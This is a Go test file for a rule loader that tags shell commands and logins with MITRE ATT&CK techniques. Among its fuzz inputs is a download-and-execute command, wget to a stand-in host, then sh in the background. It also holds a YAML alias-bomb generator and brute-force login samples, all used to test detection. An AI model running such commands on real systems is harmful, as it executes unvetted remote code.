package tagger_test

import (
	"fmt"
	"slices"
	"strings"
	"testing"
	"testing/fstest"
	"time"

	"github.com/ttpcron/ttpcron"
	"github.com/ttpcron/ttpcron/tagger"
	"github.com/ttpcron/ttpcron/tagger/correlation"
)

// rule is a valid rule with a condition; from and to replace a part of it.
func rule(id, match string, replace ...string) string {
	s := fmt.Sprintf(`rule_id: %s
rule_version: 1
name: A rule
applies_to: [command]
match: %s
emits:
  - {tactic: TA0002, technique_id: T1059, sub_technique_id: T1059.004, confidence: 0.7}
evidence_fields: [command_text]
attack_release: enterprise-v19.1
`, id, match)
	return strings.NewReplacer(replace...).Replace(s)
}

func folder(files ...string) fstest.MapFS {
	out := fstest.MapFS{}
	for i := 0; i+1 < len(files); i += 2 {
		out[files[i]] = &fstest.MapFile{Data: []byte(files[i+1])}
	}
	return out
}

func load(files ...string) (*tagger.RuleSet, *tagger.LoadReport) {
	return tagger.Load(options(tagger.Folder{Name: "dir", FS: folder(files...)}))
}

// mustLoad loads one rule that has nothing wrong with it.
func mustLoad(t *testing.T, files ...string) *tagger.RuleSet {
	t.Helper()
	rs, report := load(files...)
	for _, p := range report.Problems {
		t.Error(p)
	}
	return rs
}

// TestLoadProblems checks the messages for common mistakes: one line with file, line and
// field, without names of Go types.
func TestLoadProblems(t *testing.T) {
	ok := rule("X1", "{pattern: x}")
	for _, tt := range []struct{ name, file, want string }{
		{"no YAML", "a: [", "dir/a.yaml:1: not valid YAML: did not find expected node content"},
		{"empty", "", "dir/a.yaml: file is empty"},
		{"a document that is no rule", rule("X1", "{}") + "---\na: b\n", "dir/a.yaml:11: a: unknown key"},
		{"documents without end", strings.Repeat("---\na: b\n", 1001), "dir/a.yaml: file holds more than 1000 documents"},
		{"aliases in many documents", strings.Repeat("---\n"+bomb(), 20), "dir/a.yaml: file is too large once its aliases are written out"},
		{"id of the program", rule("lifter:x", "{pattern: x}"), `dir/a.yaml:1: rule_id: "lifter:x" begins with lifter:, as those of the program do`},
		{"a list", "- a\n", "dir/a.yaml:1: a list, want a mapping of keys to values"},
		{"unknown field", ok + "descripton: x\n", `dir/a.yaml:10: descripton: unknown key, did you mean "description"?`},
		{"key twice", ok + "name: b\n", "dir/a.yaml:10: name: stands twice"},
		{"merge key", ok + "<<: {a: b}\n", "dir/a.yaml:10: a merge (<<) as a key, want a name"},
		{"no id", strings.Replace(ok, "rule_id: X1\n", "", 1), "dir/a.yaml:1: rule_id: is missing"},
		{"bad id", rule("'a|b'", "{pattern: x}"), `dir/a.yaml:1: rule_id: "a|b" has a blank, a | or more than 128 bytes`},
		{"bad version", rule("X1", "{pattern: x}", "rule_version: 1", "rule_version: one"), `dir/a.yaml:2: rule_version: "one", want a whole number of at least 0`},
		{"kinds", rule("X1", "{pattern: x}", "[command]", "{a: b}"), "dir/a.yaml:4: applies_to: a mapping, want text"},
		{"no match", rule("X1", "{}"), "dir/a.yaml:5: match: is empty: it would match everything"},
		{"bad pattern", rule("X1", "{pattern: '(a'}"), `dir/a.yaml:5: match.pattern: missing ), unterminated subpattern at position 2 in "(a"`},
		{"unknown operator", rule("X1", "{program: {contain: x}}"), `dir/a.yaml:5: match.program.contain: unknown key, did you mean "contains"?`},
		{"unknown condition", rule("X1", "{all: [{programm: x}]}"), `dir/a.yaml:5: match.all[0].programm: unknown key, did you mean "program"?`},
		{"condition no mapping", rule("X1", "{any: [wget]}"), `dir/a.yaml:5: match.any[0]: "wget", want a mapping of keys to values`},
		{"no list", rule("X1", "{any: {program: x}}"), "dir/a.yaml:5: match.any: a mapping, want a list of conditions"},
		{"field alone", rule("X1", "{field: user_agent}"), "dir/a.yaml:5: match.field: needs a pattern beside it, or write field: {name: …, contains: …}"},
		{"field without name", rule("X1", "{field: {contains: x}}"), "dir/a.yaml:5: match.field.name: is missing"},
		{"kind", rule("X1", "{kind: canary}"), `dir/a.yaml:5: match.kind: "canary", want lifter:NAME`},
		{"boolean", rule("X1", "{background: maybe}"), `dir/a.yaml:5: match.background: "maybe", want true or false`},
		{"shell fields of a canary", rule("X1", "{program: x}", "[command]", "[canary_fingerprint]"), "dir/a.yaml:5: match: tests the parts of a shell command, but applies_to has no command"},
		{"no emits", rule("X1", "{pattern: x}", "emits:\n  - {tactic: TA0002, technique_id: T1059, sub_technique_id: T1059.004, confidence: 0.7}", ""), "dir/a.yaml:1: emits: is missing"},
		{"emits nothing", rule("X1", "{pattern: x}", "emits:\n  - {tactic: TA0002, technique_id: T1059, sub_technique_id: T1059.004, confidence: 0.7}", "emits:"), "dir/a.yaml:6: emits: nothing, want a list of {tactic, technique_id, sub_technique_id, confidence}"},
		{"confidence", rule("X1", "{pattern: x}", "0.7", "1.7"), `dir/a.yaml:7: emits[0].confidence: "1.7", want a number from 0 to 1`},
		{"level", ok + "level: severe\n", `dir/a.yaml:10: level: "severe", want informational, low, medium, high or critical`},
		{"level in capitals", ok + "level: High\n", `dir/a.yaml:10: level: "High", want informational, low, medium, high or critical`},
		{"level no text", ok + "level: [high]\n", "dir/a.yaml:10: level: a list, want text"},
		{"level of a claim", rule("X1", "{pattern: x}", "confidence: 0.7", "confidence: 0.7, level: high"), "dir/a.yaml:7: emits[0].level: unknown key"},
		{"confidence NaN", rule("X1", "{pattern: x}", "0.7", ".nan"), `dir/a.yaml:7: emits[0].confidence: ".nan", want a number from 0 to 1`},
		{"no confidence", rule("X1", "{pattern: x}", ", confidence: 0.7", ""), "dir/a.yaml:7: emits[0].confidence: is missing"},
		{"low confidence", rule("X1", "{pattern: x}", "0.7", "0.2"), "dir/a.yaml:7: warning: emits[0].confidence: 0.2 is below 0.3: no tag is ever written"},
		{"tactic form", rule("X1", "{pattern: x}", "TA0002", "execution"), `dir/a.yaml:7: emits[0].tactic: "execution" is not of the form TA0000`},
		{"sub-technique of another", rule("X1", "{pattern: x}", "T1059.004", "T1053.003"), `dir/a.yaml:7: emits[0].sub_technique_id: "T1053.003" is not a sub-technique of T1059`},
		{"sub-technique as technique", rule("X1", "{pattern: x}", "T1059, sub_technique_id: ", ""), `dir/a.yaml:7: emits[0].technique_id: "T1059.004" is a sub-technique: put T1059 here and the whole id into sub_technique_id`},
		{"unknown technique", rule("X1", "{pattern: x}", "T1059, sub_technique_id: T1059.004", "T9999"), "dir/a.yaml:7: emits[0].technique_id: T9999 is unknown in enterprise-v19.1 and enterprise-v18.1"},
		{"unknown technique of another release", rule("X1", "{pattern: x}", "T1059, sub_technique_id: T1059.004", "T9999", "v19.1", "v99.1"), "dir/a.yaml:7: warning: emits[0].technique_id: T9999 is unknown in enterprise-v19.1 and enterprise-v18.1, the releases that can be checked"},
		{"revoked technique", rule("X1", "{pattern: x}", "T1059, sub_technique_id: T1059.004", "T1086"), "dir/a.yaml:7: warning: emits[0].technique_id: T1086 was revoked in enterprise-v19.1; T1059.001 took its place"},
		{"tactic of another", rule("X1", "{pattern: x}", "TA0002", "TA0040"), "dir/a.yaml:7: warning: emits[0].tactic: T1059.004 does not belong to TA0040 in enterprise-v19.1 (TA0002)"},
		{"one technique twice", rule("X1", "{pattern: x}", "emits:", "emits:\n  - {tactic: TA0002, technique_id: T1059, sub_technique_id: T1059.004, confidence: 0.9}"), "dir/a.yaml:8: warning: emits[1]: repeats T1059.004, which would be the same tag: only the first counts"},
		{"usual field of no kind", rule("X1", "{pattern: x}", "[command]", "[session, command]"), `dir/a.yaml:5: warning: match.field: is missing, and events of kind "session" have no usual field: the rule never matches them`},
		{"commas", rule("X1", "{pattern: x}", "[command_text]", "[command_text uid]"), `dir/a.yaml:8: warning: evidence_fields[0]: "command_text uid" has a blank or a comma in it: are commas missing between names?`},
		{"alias bomb", bomb(), "dir/a.yaml: file is too large once its aliases are written out"},
		{"10 MB", "# " + strings.Repeat("x", 10<<20), "dir/a.yaml: file is larger than 1048576 bytes"},
		{"deep conditions", rule("X1", strings.Repeat("{not: ", 40)+"{pattern: x}"+strings.Repeat("}", 40)), "conditions are nested deeper than 32"},
		{"deep YAML", strings.Repeat("[", 20000), "dir/a.yaml: not valid YAML: exceeded max depth of 10000"},
		{"tabs", "a:\n\tb: c\n", "dir/a.yaml:2: not valid YAML: found character that cannot start any token"},
		{"control characters", "a: \x01\n", "not valid YAML: control characters are not allowed"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			start := time.Now()
			rs, report := load("a.yaml", tt.file, "good.yaml", rule("GOOD", "{pattern: y}"))
			var got []string
			warnings := true
			for _, p := range report.Problems {
				got = append(got, p.String())
				warnings = warnings && p.Warning
				if s := p.String(); strings.Contains(s, "\n") || strings.Contains(s, "yaml.Node") || strings.Contains(s, "tagger.") {
					t.Errorf("not fit for people: %q", s)
				}
			}
			if !strings.Contains(strings.Join(got, "\n"), tt.want) {
				t.Errorf("got %q, want %q", got, tt.want)
			}
			want := 1
			if warnings {
				want = 2
			}
			if rs.Len() != want {
				t.Errorf("%d rules loaded, want %d", rs.Len(), want)
			}
			if d := time.Since(start); d > time.Second {
				t.Logf("took %v", d)
			}
		})
	}
}

// bomb is a YAML file that grows tenfold with every line.
func bomb() string {
	var b strings.Builder
	b.WriteString("a0: &a0 [x]\n")
	for i := 1; i < 9; i++ {
		fmt.Fprintf(&b, "a%d: &a%d [%s]\n", i, i, strings.TrimSuffix(strings.Repeat(fmt.Sprintf("*a%d, ", i-1), 10), ", "))
	}
	return rule("X1", "{program: x}") + b.String() + "tests: {match: [{payload: {x: *a8}}]}\n"
}

// TestLoadFileNames: only files named like rules are read.
func TestLoadFileNames(t *testing.T) {
	rs, report := load(
		"a.yaml", rule("A", "{pattern: x}"), "b_2.yml", rule("B", "{pattern: x}"),
		"c-d.yaml", rule("C", "{pattern: x}"), "d.yaml.bak", rule("D", "{pattern: x}"), "e.json", "{}", ".f.yaml", rule("F", "{pattern: x}"),
		"README.md", "#", "sub/g.yaml", rule("G", "{pattern: x}"),
	)
	if rs.Len() != 2 || report.Files != 2 {
		t.Errorf("%d rules of %d files", rs.Len(), report.Files)
	}
	// What looks like a rule is said to be passed over.
	want := "[dir/c-d.yaml: warning: is passed over: the name of a rule file has letters, digits and _ alone, before .yaml or .yml" +
		" dir/sub/g.yaml: warning: is passed over: only Sigma's rules are read from folders within the folder]"
	if got := fmt.Sprint(report.Problems); got != want {
		t.Errorf("got  %s\nwant %s", got, want)
	}
}

// TestLoadOverride replaces a rule by one in a later folder, and reports two in one
// folder.
func TestLoadOverride(t *testing.T) {
	first := folder("a.yaml", rule("A", "{pattern: one}"), "b.yaml", rule("B", "{pattern: x}"), "b_again.yaml", rule("B", "{pattern: y}"))
	second := folder("mine.yaml", rule("A", "{pattern: two}", "rule_version: 1", "rule_version: 7"))
	rs, report := tagger.Load(options(tagger.Folder{Name: "one", FS: first}, tagger.Folder{Name: "two", FS: second}))
	if len(report.Problems) != 1 || report.Problems[0].String() != "one/b_again.yaml:1: rule_id: B is already the id of b.yaml" {
		t.Errorf("problems %v", report.Problems)
	}
	if report.Replaced != 1 || report.Loaded != 2 || report.Refused() != 1 {
		t.Errorf("%+v", report)
	}
	r, ok := rs.Rule("A")
	if !ok || r.Version != 7 || r.Folder != "two" || r.File != "mine.yaml" {
		t.Errorf("rule A is %+v", r)
	}
	if _, ok := rs.Rule("C"); ok {
		t.Error("there is no rule C")
	}
}

// TestLoadNothing gives an empty set that can be used.
func TestLoadNothing(t *testing.T) {
	rs, report := tagger.Load(tagger.Options{})
	if rs.Len() != 0 || report.Loaded != 0 || rs.Fingerprint() == "" {
		t.Errorf("%d rules, %+v", rs.Len(), report)
	}
	if tags, v := rs.Tagger(nil).Tag(command("id"), nil); len(tags) > 0 || !v.Skipped {
		t.Errorf("%v, %+v", tags, v)
	}
	_, report = tagger.Load(tagger.Options{Folders: []tagger.Folder{{Name: "none", FS: missing{}}}})
	if len(report.Problems) != 1 || !strings.HasPrefix(report.Problems[0].String(), "none: ") {
		t.Errorf("problems %v", report.Problems)
	}
}

// FuzzLoad: any file gives a rule or a problem that fits on a line, a rule that loads can
// be run, and a correlation that loads can be judged.
func FuzzLoad(f *testing.F) {
	f.Add([]byte(rule("A", "{pattern: '(?i)a(?=b)', field: x}")))
	f.Add([]byte(rule("A", "{all: [{program: [a, b]}, {not: {args: {glob: '*x[!a-z]', not: {contains: y}}}}], some: {url: {count_min: 2}}}")))
	f.Add([]byte(rule("A", "{kind: lifter:canary_automation_hash, catalogues: [x]}", "[command]", "[canary_fingerprint]")))
	f.Add([]byte(bomb()))
	f.Add([]byte("title: x\nid: y\nlogsource: {product: linux}\ndetection: {a: {Image|endswith: /x}, condition: a}\ndate: 2026-01-01\n"))
	f.Add([]byte("---\n" + failedLogin("BASE") + "---\n" + guessing("GUESS") + "tests: {match: [[{times: 3, every: 1s, kind: auth_attempt, payload: {username: 'u{n}', success: false}}]]}\n"))
	f.Add([]byte(failedLogin("A") + "---\n" + guessing("B", "[BASE]", "[A, C]", "event_count", "temporal_ordered", "{gte: 3}", "'A and (C or A)'") + "---\n" + guessing("C", "[BASE]", "[A]", "timespan", "aliases: {who: {A: username}}\n  timespan", "username]", "who]")))
	f.Add([]byte("title: x\nname: a\nlogsource: {category: auth}\ndetection: {a: {outcome: failure}, condition: a}\n---\ntitle: y\ntags: [attack.t1110, attack.credential-access]\n" +
		"correlation: {type: value_count, rules: [a], group-by: [src_ip], timespan: 1h, condition: {gt: 1, field: [User, password]}, generate: true}\n"))
	f.Add([]byte(lifted("{kind: 'lifter:login_after_failures', threshold: 2, window: 60}", "")))
	f.Fuzz(func(t *testing.T, data []byte) {
		rs, report := load("a.yaml", string(data), "base.yaml", failedLogin("OTHER"))
		for _, p := range report.Problems {
			if s := p.String(); strings.ContainsAny(s, "\n\r") {
				t.Fatalf("%q is not one line", s)
			}
		}
		if rs.Len() <= 1 && report.Refused() == 0 {
			t.Fatal("neither a rule nor a problem")
		}
		inForce := map[string]bool{}
		for _, r := range rs.Correlations() {
			inForce[r.Def().ID] = true
		}
		for _, r := range rs.Rules() {
			if r.Correlation != nil && r.Inert == "" != inForce[r.ID] {
				t.Fatalf("%s: inert %q, in force %v", r.ID, r.Inert, inForce[r.ID])
			}
		}
		c := rs.Tagger(nil)
		for _, text := range []string{"", "a b", "wget http://x/a -O /tmp/a; sh /tmp/a &", string(data)} {
			c.Tag(command(text), nil)
		}
		judges := map[string]*correlation.Judge{}
		for _, r := range rs.Correlations() {
			judges[r.Def().ID] = r.Judge()
		}
		c.Tag(login("203.0.113.9", "root", false), nil)
		for _, m := range c.Matches() {
			used := false
			for _, r := range rs.Correlations() {
				j := judges[r.Def().ID]
				if i := slices.Index(r.Streams(), m.Stream); i >= 0 {
					used = true
					j.Begin(ttpcron.Group(m.Group))
					j.Match(i, &m)
					slots, _ := j.End(nil)
					for _, slot := range slots {
						r.Tags(ttpcron.NewSubject(ttpcron.Group(m.Group), r.Names()), slot, nil)
					}
				}
			}
			if !used {
				t.Fatalf("nobody looks at the stream %s", m.Stream.ID)
			}
		}
		tagger.Test(rs)
	})
}

// TestBeneath: correlations may name rules in folders that are loaded without a report.
func TestBeneath(t *testing.T) {
	file := func(text string) *fstest.MapFile { return &fstest.MapFile{Data: []byte(text)} }
	beneath := tagger.Folder{Name: "pack", FS: fstest.MapFS{
		"b1.yaml":  file("rule_id: B1\nrule_version: 1\nname: A\napplies_to: [command]\nmatch: {program: id}\nemits: []\ntests: {match: [whoami]}\n"),
		"bad.yaml": file("rule_id: [\n"),
	}}
	own := tagger.Folder{Name: "own", FS: fstest.MapFS{
		"c1.yaml": file("rule_id: C1\nrule_version: 1\nname: B\ncorrelation: {type: event_count, rules: [B1], timespan: 1m, condition: {gte: 2}}\nemits: [{tactic: TA0007, technique_id: T1033, confidence: 0.9}]\ntests:\n  match:\n    - - {at: 0s, every: 1s, times: 2, command: id}\n"),
	}}
	rs, report := tagger.Load(tagger.Options{Beneath: []tagger.Folder{beneath}, Folders: []tagger.Folder{own}})
	if report.Files != 1 || report.Loaded != 1 || report.Silent != 0 || len(report.Problems) != 0 || rs.Len() != 2 {
		t.Errorf("%d rules, report %+v", rs.Len(), report)
	}
	if failed := tagger.Test(rs); len(failed) != 0 {
		t.Errorf("%+v", failed)
	}
	if _, report := tagger.Load(tagger.Options{Folders: []tagger.Folder{own}}); report.Loaded != 0 || len(report.Problems) != 1 {
		t.Errorf("alone: %+v", report)
	}
}
